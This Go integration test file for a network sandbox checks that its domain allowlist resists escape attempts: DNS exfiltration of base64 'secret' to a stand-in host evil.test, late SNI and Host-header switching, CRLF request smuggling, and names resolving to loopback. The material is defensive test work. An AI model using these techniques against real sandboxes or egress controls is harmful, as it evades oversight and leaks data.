package integration

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"os"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/claude-sandbox/claude-sandbox/internal/testutil"
	"github.com/claude-sandbox/claude-sandbox/netpolicy"
)

// recorder keeps every byte the lab's servers were sent: the DNS queries
// as they came (to find data a query smuggled out), the TCP streams per
// connection (to prove a refused first message never reached a server).
type recorder struct {
	mu   sync.Mutex
	dns  [][]byte
	tcp  map[net.Conn][]byte
	keys []net.Conn
}

func (r *recorder) addDNS(q []byte) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.dns = append(r.dns, append([]byte(nil), q...))
}

func (r *recorder) addTCP(c net.Conn, b []byte) {
	r.mu.Lock()
	defer r.mu.Unlock()
	if _, ok := r.tcp[c]; !ok {
		r.keys = append(r.keys, c)
	}
	r.tcp[c] = append(r.tcp[c], b...)
}

func (r *recorder) streams() [][]byte {
	r.mu.Lock()
	defer r.mu.Unlock()
	var out [][]byte
	for _, c := range r.keys {
		out = append(out, append([]byte(nil), r.tcp[c]...))
	}
	return out
}

// serveRecordedNames serves d on addr in ns (UDP and TCP), recording
// each query.
func (l *lab) serveRecordedNames(ns, addr string, d *namesLab, rec *recorder) {
	l.serveUDP(ns, addr, func(q []byte) ([]byte, error) { rec.addDNS(q); return d.answer(q) })
	l.serveTCP(ns, addr, func(c net.Conn) {
		var hdr [2]byte
		for {
			if _, err := readFull(c, hdr[:]); err != nil {
				return
			}
			q := make([]byte, int(hdr[0])<<8|int(hdr[1]))
			if _, err := readFull(c, q); err != nil {
				return
			}
			rec.addDNS(q)
			resp, err := d.answer(q)
			if err != nil {
				return
			}
			_, _ = c.Write(append([]byte{byte(len(resp) >> 8), byte(len(resp))}, resp...))
		}
	})
}

// echoRecorded echoes on addr in ns and records what each connection sent.
func (l *lab) echoRecorded(ns, addr string, rec *recorder) {
	l.serveTCP(ns, addr, func(c net.Conn) {
		buf := make([]byte, 4096)
		for {
			n, err := c.Read(buf)
			if n > 0 {
				rec.addTCP(c, buf[:n])
				if _, werr := c.Write(buf[:n]); werr != nil {
					return
				}
			}
			if err != nil {
				return
			}
		}
	})
}

// TestJailDomainAttacks tries the ways around the domain allowlist from
// inside the sandbox (docs/threat-model.md lists them): DNS as a channel
// out (to every resolver address, in every shape of query), and naming
// another host than the flow's after outwaiting the stack's peek of the
// first bytes. Each must fail, and the lab's servers must never see the
// data or the other name.
func TestJailDomainAttacks(t *testing.T) {
	jailUsers(t, func(t *testing.T, l *lab, uid int) {
		d := &namesLab{names: map[string]string{"api.test.": labInternet, "other.test.": labInternet}}
		rec := &recorder{tcp: map[net.Conn][]byte{}}
		l.serveRecordedNames(l.world, labDNS+":53", d, rec)
		l.echoRecorded(l.world, labInternet+":443", rec)
		l.echoRecorded(l.world, labInternet+":80", rec)
		l.echoUDP(l.world, labInternet+":53")
		l.serveTCP(l.world, labInternet+":2222", func(c net.Conn) {
			if _, err := c.Write([]byte("SSH-2.0-lab\r\n")); err != nil {
				return
			}
			_, _ = io.Copy(c, c)
		})

		dir, err := os.MkdirTemp("/tmp", "claude-sandbox-domattack-")
		must(t, err)
		t.Cleanup(func() { os.RemoveAll(dir) })
		must(t, os.Chmod(dir, 0o777))
		probe := testutil.Build(t, "./integration/domainprobe")
		plain := testutil.Build(t, "./integration/probe")
		bin := testutil.Build(t, "./cmd/claude-sandbox")
		// The data every attack tries to carry out: c2VjcmV0 ("secret").
		const evil = "c2VjcmV0.evil.test."
		script := `P=` + probe + `
echo "dns-udp|$($P dns udp resolv a ` + evil + `)"
echo "dns-tcp|$($P dns tcp resolv a ` + evil + `)"
echo "dns-case|$($P dns udp resolv a C2vJcMv0.EvIl.TeSt.)"
echo "dns-under-exact|$($P dns udp resolv a c2VjcmV0.api.test.)"
echo "dns-two-questions|$($P dns udp resolv two ` + evil + `)"
echo "dns-two-questions-tcp|$($P dns tcp resolv two ` + evil + `)"
echo "dns-txt-evil|$($P dns udp resolv txt ` + evil + `)"
echo "dns-ptr|$($P dns udp resolv ptr 1.0.18.198.in-addr.arpa.)"
echo "dns-class|$($P dns udp resolv class ` + evil + `)"
echo "dns-dotted-label|$($P dns udp resolv label -)"
echo "dns-loop|$($P dns udp resolv loop -)"
echo "dns-edns|$($P dns udp resolv edns api.test.)"
echo "dns-txt|$($P dns udp resolv txt api.test.)"
echo "dns-type|$($P dns tcp resolv type api.test.)"
echo "dns-gw-udp|$($P dns udp ` + labGateway + ` a ` + evil + `)"
echo "dns-gw-tcp|$($P dns tcp ` + labGateway + ` a ` + evil + `)"
echo "dns-host-udp|$($P dns udp ` + labDNS + ` a ` + evil + `)"
echo "dns-host-tcp|$($P dns tcp ` + labDNS + ` a ` + evil + `)"
echo "dns-other-udp|$($P dns udp ` + labInternet + ` a ` + evil + `)"
echo "dns-wildcard|$($P dns udp resolv a c2VjcmV0.x.test.)"
echo "late-sni|$($P late api.test:443 600ms other.test)"
echo "late-sni-ok|$($P late api.test:443 600ms api.test)"
echo "pause-host|$($P pause api.test:80 600ms other.test)"
echo "pause-host-ok|$($P pause api.test:80 600ms api.test)"
echo "crlf-host|$($P raw api.test:80 '\r\n\r\nGET / HTTP/1.1\r\nHost: other.test\r\n\r\n')"
echo "two-space-host|$($P raw api.test:80 'GET  / HTTP/1.1\r\nHost: other.test\r\n\r\n')"
echo "tab-host|$($P raw api.test:80 'GET\t/\tHTTP/1.1\r\nHost: other.test\r\n\r\n')"
echo "lower-version-host|$($P raw api.test:80 'get / http/1.1\r\nHost: other.test\r\n\r\n')"
echo "h2c|$($P raw api.test:80 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')"
echo "server-first|$($P serverfirst api.test:2222)"
echo "ping-internet|$(` + plain + ` ping ` + labInternet + `)"
echo "gw-tcp|$(` + plain + ` tcp ` + labGateway + `:22)"
echo "gw-tcp-80|$(` + plain + ` tcp ` + labGateway + `:80)"
`
		_, got, logf := l.runLabScript(t, uid, bin, dir, script, "|", "--allow-domain", "api.test", "--allow-domain", "*.x.test")
		expect := func(key string, ok func(string) bool, want string) {
			t.Helper()
			if !ok(got[key]) {
				t.Errorf("%s: %q, want %s", key, got[key], want)
			}
		}
		is := func(want string) func(string) bool { return func(s string) bool { return s == want } }
		refusedOrNX := func(s string) bool {
			return s == "rcode:NameError answers:0" || blockedAtOnce(s) || s == "err:ECONNRESET"
		}
		nx := is("rcode:NameError answers:0")
		expect("dns-udp", nx, "NXDOMAIN")
		expect("dns-tcp", nx, "NXDOMAIN")
		expect("dns-case", nx, "NXDOMAIN")
		expect("dns-under-exact", nx, "NXDOMAIN (api.test allows no subdomain)")
		expect("dns-two-questions", is("rcode:FormatError answers:0"), "FORMERR")
		expect("dns-two-questions-tcp", is("rcode:FormatError answers:0"), "FORMERR")
		expect("dns-txt-evil", nx, "NXDOMAIN")
		expect("dns-ptr", nx, "NXDOMAIN")
		expect("dns-class", is("rcode:Refused answers:0"), "REFUSED")
		expect("dns-dotted-label", func(s string) bool { return s == "rcode:FormatError answers:0" || nx(s) }, "FORMERR or NXDOMAIN")
		expect("dns-loop", is("rcode:FormatError answers:0"), "FORMERR")
		expect("dns-edns", is("rcode:Success answers:1"), "the synthetic address")
		expect("dns-txt", is("rcode:Success answers:0"), "forwarded, the lab's empty answer")
		expect("dns-type", is("rcode:Success answers:0"), "forwarded, the lab's empty answer")
		for _, k := range []string{"dns-gw-udp", "dns-gw-tcp", "dns-host-udp", "dns-host-tcp", "dns-other-udp"} {
			expect(k, refusedOrNX, "NXDOMAIN or a refusal")
		}
		expect("dns-wildcard", nx, "NXDOMAIN from the lab (a wildcard's names go upstream)")
		reset := is("err:ECONNRESET")
		expect("late-sni", reset, "a reset")
		expect("late-sni-ok", func(s string) bool { return strings.HasPrefix(s, "echo:") }, "echoed (control)")
		expect("pause-host", reset, "a reset")
		expect("pause-host-ok", func(s string) bool { return strings.HasPrefix(s, "echo:") }, "echoed (control)")
		expect("crlf-host", reset, "a reset")
		expect("two-space-host", reset, "a reset (a request line in another spelling is refused, not relayed as raw TCP)")
		expect("tab-host", reset, "a reset")
		expect("lower-version-host", reset, "a reset")
		expect("h2c", reset, "a reset")
		expect("server-first", is("banner:SSH-2.0-lab echo:SSH-2.0-domainprobe"), "the banner, then the client's line echoed (control: watched, not refused)")
		expect("ping-internet", func(s string) bool { return s != "ok" }, "a refusal")
		expect("gw-tcp", func(s string) bool { return s != "ok" && strings.HasPrefix(s, "err:") }, "a refusal")
		expect("gw-tcp-80", func(s string) bool { return s != "ok" && strings.HasPrefix(s, "err:") }, "a refusal")

		// The lab's DNS: never sent the data, in any form; the wildcard's
		// name is the one documented way a chosen label goes upstream.
		sawWildcard := false
		for _, q := range rec.dns {
			low := bytes.ToLower(q)
			if bytes.Contains(low, []byte("evil")) || bytes.Contains(low, []byte("in-addr")) || bytes.Contains(q, []byte("edns")) {
				t.Errorf("the lab DNS got %q", q)
			}
			if bytes.Contains(low, []byte("c2vjcmv0")) {
				if !bytes.Contains(low, []byte("\x01x\x04test")) {
					t.Errorf("the lab DNS got %q", q)
				}
				sawWildcard = true
			}
		}
		if !sawWildcard {
			t.Errorf("the lab DNS never got the wildcard's query (control): %d queries", len(rec.dns))
		}
		for _, n := range d.log() {
			if n != "api.test." && n != "c2vjcmv0.x.test." {
				t.Errorf("the lab DNS was asked for %s", n)
			}
		}

		// The lab's servers: never a byte naming other.test; the controls'
		// ClientHello and request for api.test came through.
		sawControl := 0
		for _, s := range rec.streams() {
			if bytes.Contains(s, []byte("other.test")) || bytes.HasPrefix(s, []byte("PRI ")) {
				t.Errorf("a lab server got %.120q", s)
			}
			if bytes.Contains(s, []byte("api.test")) {
				sawControl++
			}
		}
		if sawControl < 2 {
			t.Errorf("the controls' streams did not reach the lab (%d)", sawControl)
		}

		b, err := os.ReadFile(logf)
		must(t, err)
		for _, rule := range []string{"sni mismatch: other.test", "http host mismatch: other.test", "cleartext HTTP/2", "malformed HTTP first message"} {
			found := false
			for _, line := range strings.Split(strings.TrimSpace(string(b)), "\n") {
				var rec netpolicy.Block
				if json.Unmarshal([]byte(line), &rec) == nil && rec.Name == "api.test" && strings.Contains(rec.Rule, rule) {
					found = true
				}
			}
			if !found {
				t.Errorf("no block record for api.test (%s) in\n%s", rule, b)
			}
		}
	})
}

// countedEcho echoes on addr in ns, TCP (a stream copied back) or UDP
// (each datagram sent back), and counts the connections or datagrams.
func (l *lab) countedEcho(ns, proto, addr string) *atomic.Int64 {
	n := &atomic.Int64{}
	if proto == "udp" {
		l.serveUDP(ns, addr, func(q []byte) ([]byte, error) { n.Add(1); return q, nil })
		return n
	}
	l.serveTCP(ns, addr, func(c net.Conn) { n.Add(1); _, _ = io.Copy(c, c) })
	return n
}

// TestJailDomainHostLoopback: an allowed name whose upstream answer is the
// host's loopback (127.0.0.1, ::1, ::ffff:127.0.0.1; 0.0.0.0 or ::, which
// a host-side connect takes to loopback; --allow-ip naming them is refused
// at parse time, TestReachAllowLoopbackRefused, and a policy built in code
// allowing them is covered by TestNamesHostLoopbackNeverDialed), a lab
// device (10.x), or the jail's own gateway address, with
// --allow-host-port opening 8080/tcp and 5353/udp of the host's loopback,
// where servers listen on those ports and on others. Connecting to the
// name, on the opened port or another, never reaches the host's loopback
// (nor the device): only the gateway address leads to host ports. Each
// refusal is recorded under the name.
func TestJailDomainHostLoopback(t *testing.T) {
	jailUsers(t, func(t *testing.T, l *lab, uid int) {
		l.addIPv6()
		d := &namesLab{names: map[string]string{
			"ok.test.": labInternet, "lo.test.": "127.0.0.1", "lo6.test.": "::1", "mapped.test.": "::ffff:127.0.0.1",
			"zero.test.": "0.0.0.0", "zero6.test.": "::", "dev.test.": labDevice, "gw.test.": labGateway,
		}}
		l.serveNames(l.world, labDNS+":53", d)
		l.echoTCP(l.world, labInternet+":8081")
		hits := map[string]*atomic.Int64{}
		for _, a := range []string{"127.0.0.1:8080", "127.0.0.1:8081", "[::1]:8080", "[::1]:8081"} {
			hits["tcp "+a] = l.countedEcho(l.host, "tcp", a)
		}
		for _, a := range []string{"127.0.0.1:5353", "127.0.0.1:5354", "[::1]:5353", "[::1]:5354"} {
			hits["udp "+a] = l.countedEcho(l.host, "udp", a)
		}
		for _, a := range []string{labDevice + ":8080", labDevice + ":8081"} {
			hits["tcp "+a] = l.countedEcho(l.world, "tcp", a)
		}

		dir, err := os.MkdirTemp("/tmp", "claude-sandbox-domloop-")
		must(t, err)
		t.Cleanup(func() { os.RemoveAll(dir) })
		must(t, os.Chmod(dir, 0o777))
		probe := testutil.Build(t, "./integration/probe")
		bin := testutil.Build(t, "./cmd/claude-sandbox")
		// Each probe is "PROTO TARGET"; the gateway's name is dialed on
		// the host side as any address would be (into the lab's world,
		// where nothing answers), never taken for the gateway.
		attacks := []string{"tcp gw.test:8080", "udp lo.test:5353", "udp lo.test:5354", "udp lo6.test:5353"}
		for _, n := range []string{"lo", "lo6", "mapped", "zero", "zero6", "dev"} {
			attacks = append(attacks, "tcp "+n+".test:8080", "tcp "+n+".test:8081")
		}
		controls := []string{"tcp ok.test:8081", "tcp host.internal:8080", "udp host.internal:5353"}
		script := "P=" + probe + "\n"
		for _, a := range append(slices.Clone(attacks), controls...) {
			script += fmt.Sprintf("echo \"%s|$($P %s)\"\n", a, a)
		}
		// --allow-ip 0.0.0.0 and :: were given here too until they were
		// refused at parse time (a host-side connect to them reaches the
		// host's loopback); the stack refuses them whatever the policy.
		args := []string{"--allow-host-port", "8080", "--allow-host-port", "5353/udp"}
		for _, n := range []string{"ok", "lo", "lo6", "mapped", "zero", "zero6", "dev", "gw"} {
			args = append(args, "--allow-domain", n+".test")
		}
		r, got, logf := l.runLabScript(t, uid, bin, dir, script, "|", args...)
		for _, c := range controls {
			if got[c] != "ok" {
				t.Errorf("control %s: %q, want ok (%v)", c, got[c], r)
			}
		}
		for _, a := range attacks {
			if got[a] == "ok" || !strings.HasPrefix(got[a], "err:") {
				t.Errorf("%s: %q, want a refusal", a, got[a])
			}
		}
		// The servers: only the controls reached the host's loopback, on
		// the opened ports (TCP: one connection; UDP: the probe may send
		// again); nothing reached the device.
		for k, n := range hits {
			switch c := n.Load(); {
			case k == "tcp 127.0.0.1:8080" && c != 1, k == "udp 127.0.0.1:5353" && c == 0:
				t.Errorf("%s: %d connections or datagrams, want the control's alone", k, c)
			case k != "tcp 127.0.0.1:8080" && k != "udp 127.0.0.1:5353" && c != 0:
				t.Errorf("%s was reached: %d connections or datagrams", k, c)
			}
		}

		b, err := os.ReadFile(logf)
		must(t, err)
		for _, w := range []struct{ proto, name, rule string }{
			{"tcp", "lo.test", "127.0.0.1 ("},
			{"udp", "lo.test", "127.0.0.1 ("},
			{"tcp", "lo6.test", "::1 (loopback"},
			{"udp", "lo6.test", "::1 (loopback"},
			{"tcp", "mapped.test", "127.0.0.1 ("},
			{"tcp", "zero.test", "0.0.0.0 ("},
			{"tcp", "zero6.test", ":: ("},
			{"tcp", "dev.test", labDevice + " (private range"},
		} {
			found := false
			for _, line := range strings.Split(strings.TrimSpace(string(b)), "\n") {
				var rec netpolicy.Block
				if json.Unmarshal([]byte(line), &rec) == nil && rec.Proto.String() == w.proto && rec.Name == w.name &&
					strings.HasPrefix(rec.Rule, "resolves only to blocked addresses: "+w.rule) {
					found = true
				}
			}
			if !found {
				t.Errorf("no block record %s %s (%s) in\n%s", w.proto, w.name, w.rule, b)
			}
		}
	})
}
